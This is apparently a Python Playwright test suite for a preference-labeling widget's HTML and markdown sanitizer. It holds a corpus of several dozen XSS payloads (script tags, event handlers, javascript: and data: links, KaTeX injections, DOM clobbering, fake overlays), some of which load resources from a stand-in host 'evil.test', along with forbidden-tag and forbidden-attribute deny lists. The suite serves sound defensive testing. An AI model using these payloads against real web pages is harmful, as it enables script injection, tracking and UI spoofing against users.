"""Hostile prompts and responses rendered by the Labeler in real Chromium.

Each vector tries to run script (setting ``window.__xss`` or opening a dialog), navigate, or
load something from the network. Every vector is shown in the prompt, on both sides, in
markdown, raw and diff views, and every link in it is clicked. Nothing may run, navigate or
make a request other than the page itself.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from labeler_host import ORIGIN, host

from prefnb.labeler import Labeler
from prefnb.pairs import pairs_frame

pytestmark = pytest.mark.browser

EVIL = "http://evil.test"
VECTORS = [
    "<script>window.__xss = 1</script>",
    '<img src=x onerror="window.__xss = 2">',
    f'<img src="{EVIL}/pixel.png">',
    f"![tracking]({EVIL}/md-image.png)",
    "[click me](javascript:window.__xss=5)",
    '<a href="javascript:window.__xss = 6">js link</a>',
    '<svg onload="window.__xss = 7"><circle r="10"></circle></svg>',
    "<svg><script>window.__xss = 8</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 9">',
    f'<iframe src="{EVIL}/frame"></iframe>',
    '<iframe srcdoc="<script>parent.__xss = 11</script>"></iframe>',
    f'<object data="{EVIL}/object.swf"></object>',
    f'<embed src="{EVIL}/embed">',
    f'<div style="background: url({EVIL}/bg.png)">styled</div>',
    f"<style>@import '{EVIL}/x.css'; body {{ background: url({EVIL}/y.png) }}</style>",
    f'<link rel="stylesheet" href="{EVIL}/link.css">',
    f'<form action="{EVIL}/f"><input type="submit" formaction="javascript:window.__xss=17"></form>',
    '<details open ontoggle="window.__xss = 18"><summary>s</summary>d</details>',
    '<a href="&#106;avascript:window.__xss = 19">entity js</a>',
    "[entity](&#x6A;avascript:window.__xss=20)",
    "```html\n<script>window.__xss = 21</script>\n<img src=x onerror=window.__xss=21>\n```",
    '<video><source onerror="window.__xss = 22" src="x"></video>',
    f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<base href="{EVIL}/">\n\n![relative](relative.png)',
    f'<img srcset="{EVIL}/srcset.png 1x">',
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0yNyI+PC9zdmc+)",
    '<a href="data:text/html,<script>alert(28)</script>">data link</a>',
    '<input autofocus onfocus="window.__xss = 29">',
    '<body onload="window.__xss = 30">',
    f'<table background="{EVIL}/t.png"><tr><td>cell</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=32>"></noscript>',
    '<marquee onstart="window.__xss = 33">m</marquee>',
    "&lt;script&gt;window.__xss = 34&lt;/script&gt;",
    "<img src=//evil.test/protocol-relative.png>",
    '<span class="pl-btn" data-action="left">fake verdict button</span>',
    '<p style="position:fixed;inset:0;z-index:99">overlay</p>',
    '<form id="host"><input name="nodeName"></form>',
    "[ref link][r]\n\n[r]: javascript:window.__xss=39",
    f"<a href='{EVIL}/go' target=_top>plain remote link</a>",
    '<button onclick="window.__xss = 41" autofocus>b</button>',
    '<x-custom onmouseover="window.__xss = 42">custom element</x-custom>',
]
# TeX: KaTeX runs with trust off, so none of these become a link, class, id, style or image.
MATH_VECTORS = [
    "$\\href{javascript:window.__xss=43}{click}$ and $$\\href{javascript:window.__xss=43}{x}$$",
    f"\\(\\url{{{EVIL}/url}}\\) and $\\url{{javascript:window.__xss=44}}$",
    "$\\htmlClass{pl-btn}{fake}$ $\\htmlId{host}{clobber}$ $\\htmlData{action=left}{d}$",
    f"$\\htmlStyle{{position:fixed;inset:0;background:url({EVIL}/s.png)}}{{overlay}}$",
    f"\\[\\includegraphics[height=1em]{{{EVIL}/graphic.png}}\\]",
    f"$\\color{{red;background:url({EVIL}/c.png)}}{{x}}$ $\\textcolor{{url({EVIL}/t)}}{{y}}$",
    "$\\def\\x{\\x\\x}\\x$ $\\rule{100000em}{100000em}$",  # expansion and size limits
    "$<img src=x onerror=window.__xss=50>$ $\\text{<script>window.__xss=50</script>}$",
    "\ue0000\ue001 forged placeholder $x$",
]
VECTORS += MATH_VECTORS


# Every element and attribute name under the stage (text content is allowed to say anything),
# outside KaTeX's output, and KaTeX's own markup (MathML and styled spans, made by us after
# sanitizing) checked on its own.
STAGE_DOM = """() => {
  const tex = '.katex, .katex-error';
  const els = [...document.querySelectorAll('.pl-stage *')].filter(e => !e.closest(tex));
  const math = [...document.querySelectorAll(`.pl-stage :is(${tex})`)]
    .flatMap(e => [e, ...e.querySelectorAll('*')]);
  const styled = ['style', 'mathcolor', 'mathbackground'];
  return [[...new Set(els.map(e => e.localName))],
          [...new Set(els.flatMap(e => [...e.attributes].map(a => a.name)))],
          [...new Set(math.flatMap(e => [...e.attributes].map(a => a.name)))],
          math.flatMap(e => [...e.attributes].filter(a => styled.includes(a.name)))
            .map(a => a.value).filter(s => /url|position|fixed/i.test(s)),
          [...new Set(math.flatMap(e => [...e.classList]))].filter(c => c.startsWith('pl-'))];
}"""
KATEX_ATTRS = {
    "class", "style", "title", "aria-hidden", "xmlns", "encoding", "mathvariant", "display",
    "stretchy", "fence", "separator", "lspace", "rspace", "width", "height", "minsize",
    "maxsize", "mathcolor", "mathbackground", "mathsize", "movablelimits", "accent",
    "accentunder", "scriptlevel", "displaystyle", "linethickness", "columnalign", "rowspacing",
    "columnspacing", "columnlines", "rowlines", "symmetric", "largeop", "depth", "voffset",
    "notation", "form", "lquote", "rquote",
}  # fmt: skip
FORBIDDEN_TAGS = {
    "script", "iframe", "img", "svg", "math", "style", "object", "embed", "form", "input",
    "video", "audio", "source", "link", "meta", "base", "button", "noscript", "marquee",
    "x-custom", "body", "frame", "picture",
}  # fmt: skip
FORBIDDEN_ATTRS = {
    "href", "src", "srcset", "srcdoc", "style", "action", "formaction", "background", "data",
    "id", "name", "data-action", "autofocus", "poster", "xlink:href",
}  # fmt: skip


def test_corpus_is_large_enough() -> None:
    assert len(VECTORS) >= 25


def test_no_vector_runs_loads_or_navigates(page: Any, tmp_path: Path) -> None:
    requests: list[str] = []
    dialogs: list[str] = []

    def block(route: Any) -> None:
        requests.append(route.request.url)
        route.abort()

    page.route("**/*", block)  # registered first, so the harness route below takes precedence
    page.on("request", lambda r: None if r.url == ORIGIN else requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    rows = [
        {
            "prompt": [
                {"role": "system", "content": v},
                {"role": "user", "content": f"vector {i}:\n\n{v}"},
            ],
            "response_a": f"# A {i}\n\n{v}\n\ntext after",
            "response_b": f"B {i} {v}",
        }
        for i, v in enumerate(VECTORS)
    ]
    df = pairs_frame(rows)
    lab = Labeler(df, store=tmp_path / "labels.sqlite", audit_rate=0.0, seed=1)
    host(page, lab)
    root = page.locator(".prefnb-labeler")
    for i in range(len(VECTORS)):
        page.wait_for_function(
            "p => document.querySelector('.prefnb-labeler').dataset.pos === String(p)", arg=i
        )
        for summary in page.locator(".pl-stage > .pl-shown summary").all():
            summary.click()  # open the system prompt
        for link in page.locator(".pl-stage > .pl-shown a").all():
            link.click(force=True)
        for fake in page.locator(".pl-stage > .pl-shown span:not(.katex *)").all()[:50]:
            fake.hover(force=True)
        if VECTORS[i] in MATH_VECTORS:  # the vector did reach KaTeX
            assert page.locator(".pl-stage > .pl-shown .pl-left .pl-math").count() > 0, i
        tag_list, attr_list, tex_attrs, tex_styles, tex_classes = page.evaluate(STAGE_DOM)
        tags, attrs = set(tag_list), set(attr_list)
        assert not tags & FORBIDDEN_TAGS, (i, tags & FORBIDDEN_TAGS, VECTORS[i])
        assert not {a for a in attrs if a.startswith("on") or a in FORBIDDEN_ATTRS}, (i, attrs)
        assert set(tex_attrs) <= KATEX_ATTRS, (i, set(tex_attrs) - KATEX_ATTRS, VECTORS[i])
        assert tex_styles == [], (i, tex_styles)
        assert tex_classes == [], (i, tex_classes)
        root.focus()
        page.keyboard.press("j")
    root.focus()
    page.keyboard.press("k")
    page.locator('[data-toggle="diff"]').check()
    page.locator('[data-toggle="raw"]').check()
    page.wait_for_timeout(300)  # let any deferred handler or load fire
    assert page.evaluate("() => window.__xss") is None
    assert dialogs == []
    assert requests == []
    assert page.url == ORIGIN
    assert lab.labels.empty  # the fake button did not label anything


def test_text_survives_sanitizing(page: Any, tmp_path: Path) -> None:
    df = pairs_frame(
        [
            {
                "prompt": "show me",
                "response_a": "&lt;script&gt; is *text* and `<b>code</b>` stays literal",
                "response_b": "[docs](https://example.com/docs) ![chart](https://example.com/c.png)",
            }
        ]
    )
    lab = Labeler(df, store=tmp_path / "labels.sqlite", shuffle=False, audit_rate=0.0)
    host(page, lab)
    page.locator(".pl-stage > .pl-shown").wait_for()
    left = page.locator(".pl-stage > .pl-shown .pl-left .pl-md")
    assert "<script> is text and <b>code</b> stays literal" in left.inner_text()
    link = page.locator(".pl-stage > .pl-shown .pl-right a.pl-link")
    assert link.inner_text() == "docs"
    assert link.get_attribute("title") == "https://example.com/docs"
    assert link.get_attribute("href") is None
    assert page.locator(".pl-stage > .pl-shown .pl-right .pl-img").inner_text() == "[image: chart]"
